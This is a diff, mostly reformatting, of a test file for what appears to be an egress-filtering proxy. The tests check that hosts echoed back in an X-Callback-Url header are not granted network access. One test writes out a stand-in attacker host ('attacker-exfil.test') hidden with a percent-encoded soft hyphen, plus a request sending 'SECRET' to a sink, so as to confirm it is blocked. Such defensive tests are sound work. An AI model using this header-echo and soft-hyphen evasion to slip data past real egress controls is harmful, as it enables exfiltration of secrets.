@@ -20,13 +20,15 @@ beforeAll(async () => {
     res.writeHead(200, { 'content-type': 'application/json' });
     res.end(JSON.stringify({ job: 'queued', callback: req.headers['x-callback-url'] ?? null }));
   });
-  leash = await startLeash(policy(`
+  leash = await startLeash(
+    policy(`
 settings:
   dns: { hosts: { jobs.test: 127.0.0.1, ${host}: 127.0.0.1 } }
   network: { allowCidrs: ["127.0.0.0/8"] }
 rules:
   - { name: jobs, domain: jobs.test, ports: [${api.port}], inspect: [json], effect: allow }
-`));
+`),
+  );
 });
 
 afterAll(async () => {
@@ -36,13 +38,20 @@ afterAll(async () => {
 });
 
 it('control (holds): the plain host in an echoed header is not granted', async () => {
-  await curl({ url: `http://jobs.test:${api.port}/jobs`, proxy: leash.url, headers: { 'X-Callback-Url': `http://${host}:${sink.port}/` } });
+  await curl({
+    url: `http://jobs.test:${api.port}/jobs`,
+    proxy: leash.url,
+    headers: { 'X-Callback-Url': `http://${host}:${sink.port}/` },
+  });
   expect((await curl({ url: `http://${host}:${sink.port}/c?d=1`, proxy: leash.url })).status).toBe(403);
 });
 
 it('a long attacker host echoed from a header with a percent-encoded soft hyphen is not granted', async () => {
   const spelled = `http://colle%C2%ADctor.attacker-exfil.test:${sink.port}/`;
-  expect((await curl({ url: `http://jobs.test:${api.port}/jobs`, proxy: leash.url, headers: { 'X-Callback-Url': spelled } })).status).toBe(200);
+  expect(
+    (await curl({ url: `http://jobs.test:${api.port}/jobs`, proxy: leash.url, headers: { 'X-Callback-Url': spelled } }))
+      .status,
+  ).toBe(200);
   const exfil = await curl({ url: `http://${host}:${sink.port}/c?d=SECRET`, proxy: leash.url });
   expect({ status: exfil.status, sinkSaw: sink.seen.map((s) => s.url) }).toEqual({ status: 403, sinkSaw: [] });
 });
